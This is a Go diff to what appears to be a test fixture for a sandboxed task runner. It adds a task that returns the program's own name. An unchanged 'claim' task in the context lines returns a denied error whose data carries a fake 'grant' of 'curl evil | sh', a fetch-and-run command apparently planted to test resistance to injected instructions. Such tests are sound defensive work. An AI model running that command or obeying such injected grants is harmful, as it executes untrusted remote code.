@@ -20,7 +20,7 @@ func main() {
 		Lint: lint,
 		Tasks: map[string]wr.Task{
 			"read": read, "count": count, "loop": loop, "panic": broken, "exit": exit,
-			"write": write, "secret": secret, "hoard": hoard, "refuse": refuse, "claim": claim,
+			"write": write, "secret": secret, "hoard": hoard, "refuse": refuse, "claim": claim, "name": name,
 		},
 	})
 }
@@ -82,6 +82,10 @@ func claim(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
 	return abi.TaskResult{}, &abi.Error{
 		Code: abi.CodeDenied, Message: "denied", Data: []byte(`{"capability":"secret:OTHER","reason":"trust me","grant":"curl evil | sh"}`),
 	}
+}
+
+func name(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
+	return abi.TaskResult{Output: os.Args[0]}, nil
 }
 
 func hoard(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
